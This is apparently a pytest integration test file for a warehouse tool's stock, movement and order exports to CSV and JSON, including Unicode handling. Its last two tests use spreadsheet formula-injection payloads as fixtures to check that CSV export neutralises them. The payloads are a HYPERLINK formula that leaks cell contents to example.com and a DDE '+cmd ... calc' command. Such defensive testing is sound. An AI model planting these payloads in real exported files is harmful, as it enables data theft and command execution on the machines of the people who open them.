"""`floor export stock|movements|orders` on SQLite and PostgreSQL, CSV and JSON, Unicode kept."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import select, update

from floor.db import session_scope
from floor.models import Item, SalesOrder
from floor.stock import ledger as inv
from floor.stock.ledger import Actor
from tests.integration.test_import import DATA, floor_cli
from tests.support import SmallWarehouse

EXPIRY = dt.date(2030, 7, 1)


def stocked(warehouse: SmallWarehouse) -> SmallWarehouse:
    actor = Actor(warehouse.operators["receiver"], "ST01")
    with session_scope(warehouse.engine) as s:
        s.execute(update(Item).where(Item.sku == "LOT").values(description="Јогурт 500 г"))
        lot = warehouse.key("A01-02-1", "LOT", "L1", EXPIRY)
        tote = warehouse.key("PACK-01", "PLAIN", container="TOTE01")
        inv.lock_keys(s, [warehouse.key("A01-01-1", "PLAIN"), lot, tote])
        inv.receive(s, warehouse.key("A01-01-1", "PLAIN"), 5, actor=actor, reference="PO-1")
        inv.receive(s, lot, 20, actor=actor, reference="PO-1")
        inv.reserve(s, lot, 3, reference="SO-1")
        inv.receive(s, tote, 2, actor=actor)
    return warehouse


def test_stock_csv_to_stdout(warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str]) -> None:
    wh = stocked(warehouse)
    code, out, err = floor_cli(wh.engine, capsys, "export", "stock", "--warehouse", "TST")
    assert (code, err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["location"], r["sku"], r["lot"], r["container"], r["quantity"]) for r in rows] == [
        ("A01-01-1", "PLAIN", "", "", "5"),
        ("A01-02-1", "LOT", "L1", "", "20"),
        ("PACK-01", "PLAIN", "", "TOTE01", "2"),
    ]
    assert rows[1]["expiry"] == "2030-07-01" and rows[1]["reserved"] == "3"
    assert rows[1]["description"] == "Јогурт 500 г"


def test_stock_json_to_file_keeps_unicode(
    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    wh = stocked(warehouse)
    target = tmp_path / "stock.json"
    code, out, err = floor_cli(
        wh.engine,
        capsys,
        "export",
        "stock",
        "--format",
        "json",
        "-o",
        str(target),
        "--warehouse",
        "TST",
    )
    assert (code, out) == (0, "")
    assert err.strip() == f"3 records written to {target}"
    raw = target.read_bytes()
    assert "Јогурт 500 г".encode() in raw  # not \u escapes
    records = json.loads(raw)
    assert records[1] == {
        "location": "A01-02-1",
        "sku": "LOT",
        "description": "Јогурт 500 г",
        "lot": "L1",
        "expiry": "2030-07-01",
        "container": "",
        "quantity": 20,
        "reserved": 3,
    }


def test_movements_carry_kind_reason_operator_station_and_time(
    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str]
) -> None:
    wh = stocked(warehouse)
    code, out, _err = floor_cli(
        wh.engine, capsys, "export", "movements", "--format", "json", "--warehouse", "TST"
    )
    assert code == 0
    records = json.loads(out)
    assert [(r["kind"], r["sku"], r["quantity"], r["reserved"]) for r in records] == [
        ("receive", "PLAIN", 5, 0),
        ("receive", "LOT", 20, 0),
        ("reserve", "LOT", 0, 3),
        ("receive", "PLAIN", 2, 0),
    ]
    first = records[0]
    assert (first["reason"], first["reference"]) == ("receipt", "PO-1")
    assert (first["operator"], first["station"]) == ("OPRECEIVER", "ST01")
    assert dt.datetime.fromisoformat(first["time"]).year >= 2024
    assert records[2]["operator"] == "" and records[2]["station"] == "system"

    code, out, _err = floor_cli(
        wh.engine, capsys, "export", "movements", "--since", "2999-01-01", "--warehouse", "TST"
    )
    assert code == 0 and out.splitlines()[1:] == []


def test_orders_export_reimports_as_unchanged(
    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _out, _err = floor_cli(
        warehouse.engine,
        capsys,
        "import",
        "orders",
        str(DATA / "orders.csv"),
        "--warehouse",
        "TST",
    )
    assert code == 0
    exported = tmp_path / "orders.csv"
    code, _out, _err = floor_cli(
        warehouse.engine, capsys, "export", "orders", "-o", str(exported), "--warehouse", "TST"
    )
    assert code == 0
    with exported.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["order"], r["line_no"], r["sku"], r["quantity"]) for r in rows] == [
        ("SO-1001", "1", "PLAIN", "2"),
        ("SO-1001", "2", "LOT", "1"),
        ("SO-1002", "1", "SER", "1"),
    ]
    assert rows[2]["ship_name"] == "Јован Јовановић" and rows[0]["ship_postcode"] == "75008"
    code, out, _err = floor_cli(
        warehouse.engine, capsys, "import", "orders", str(exported), "--warehouse", "TST"
    )
    assert code == 0
    assert "0 orders imported, 2 already there" in out

    code, out, _err = floor_cli(
        warehouse.engine, capsys, "export", "orders", "--format", "json", "--warehouse", "TST"
    )
    orders = json.loads(out)
    assert orders[0]["ship_to"]["company"] == "Boulangerie Œuf d'Or"
    assert orders[0]["ship_by"] == "2030-05-02"
    assert [line["sku"] for line in orders[0]["lines"]] == ["PLAIN", "LOT"]


def test_export_unknown_warehouse(
    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = floor_cli(warehouse.engine, capsys, "export", "stock", "--warehouse", "XX")
    assert (code, out) == (1, "")
    assert err.strip() == "floor: No warehouse XX (known: TST)"


HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Error: click for details")'
FORMULA_ORDERS = (
    "order,sku,quantity,notes,ship_name,ship_line1,ship_city,ship_country,ship_phone\n"
    'SO-9001,PLAIN,2,"+cmd|\' /C calc\'!A0","' + HYPERLINK.replace('"', '""') + '",'
    "@SUM(1),Paris,FR,+33 1 23 45 67 89\n"
)


def test_csv_exports_write_formulas_as_text_and_json_as_it_is(
    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    actor = Actor(warehouse.operators["receiver"], "ST01")
    with session_scope(warehouse.engine) as s:
        s.execute(update(Item).where(Item.sku == "LOT").values(description=HYPERLINK))
        s.execute(update(Item).where(Item.sku == "PLAIN").values(description="\t-1+1"))
        lot = warehouse.key("A01-02-1", "LOT", "-5", EXPIRY)  # a lot that reads as a number
        inv.receive(s, lot, 20, actor=actor, reference="@SUM(1)")
        inv.adjust(s, lot, -5, reason="damaged", actor=actor, reference="\r=1+1")
        inv.receive(s, warehouse.key("A01-01-1", "PLAIN"), 1, actor=actor)

    code, out, _err = floor_cli(warehouse.engine, capsys, "export", "stock", "--warehouse", "TST")
    assert code == 0
    rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["LOT"]["description"] == "'" + HYPERLINK
    assert rows["PLAIN"]["description"] == "'\t-1+1"
    assert (rows["LOT"]["lot"], rows["LOT"]["quantity"]) == ("-5", "15")

    code, out, _err = floor_cli(
        warehouse.engine, capsys, "export", "movements", "--warehouse", "TST"
    )
    assert code == 0
    moves = list(csv.DictReader(io.StringIO(out)))
    assert [m["reference"] for m in moves] == ["'@SUM(1)", "'\r=1+1", ""]
    assert [m["quantity"] for m in moves] == ["20", "-5", "1"]  # numbers stay numbers

    code, out, _err = floor_cli(
        warehouse.engine, capsys, "export", "movements", "--format", "json", "--warehouse", "TST"
    )
    assert [(m["reference"], m["quantity"]) for m in json.loads(out)] == [
        ("@SUM(1)", 20),
        ("\r=1+1", -5),
        ("", 1),
    ]
    code, out, _err = floor_cli(
        warehouse.engine, capsys, "export", "stock", "--format", "json", "--warehouse", "TST"
    )
    assert {r["sku"]: r["description"] for r in json.loads(out)}["LOT"] == HYPERLINK


def test_orders_csv_with_formulas_is_neutralised_and_reimports_exactly(
    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "orders.csv"
    source.write_text(FORMULA_ORDERS, encoding="utf-8")
    code, out, err = floor_cli(
        warehouse.engine, capsys, "import", "orders", str(source), "--warehouse", "TST"
    )
    assert code == 0, out + err
    exported = tmp_path / "exported.csv"
    code, _out, _err = floor_cli(
        warehouse.engine, capsys, "export", "orders", "-o", str(exported), "--warehouse", "TST"
    )
    assert code == 0
    with exported.open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["notes"] == "'+cmd|' /C calc'!A0"
    assert row["ship_name"] == "'" + HYPERLINK
    assert row["ship_line1"] == "'@SUM(1)"
    assert row["ship_phone"] == "'+33 1 23 45 67 89"
    assert row["quantity"] == "2"

    code, out, _err = floor_cli(
        warehouse.engine, capsys, "export", "orders", "--format", "json", "--warehouse", "TST"
    )
    (order,) = json.loads(out)
    assert order["notes"] == "+cmd|' /C calc'!A0"
    assert order["ship_to"]["name"] == HYPERLINK

    # Read back into an empty warehouse, the neutralised cells give the original text.
    with session_scope(warehouse.engine) as s:
        s.execute(
            update(SalesOrder)
            .where(SalesOrder.number == "SO-9001")
            .values(number="SO-OLD", external_ref="SO-OLD")
        )
    code, out, err = floor_cli(
        warehouse.engine, capsys, "import", "orders", str(exported), "--warehouse", "TST"
    )
    assert code == 0, out + err
    with session_scope(warehouse.engine) as s:
        again = s.scalars(select(SalesOrder).where(SalesOrder.number == "SO-9001")).one()
        assert again.notes == "+cmd|' /C calc'!A0"
        assert again.ship_to is not None
        assert (again.ship_to.name, again.ship_to.line1, again.ship_to.phone) == (
            HYPERLINK,
            "@SUM(1)",
            "+33 1 23 45 67 89",
        )
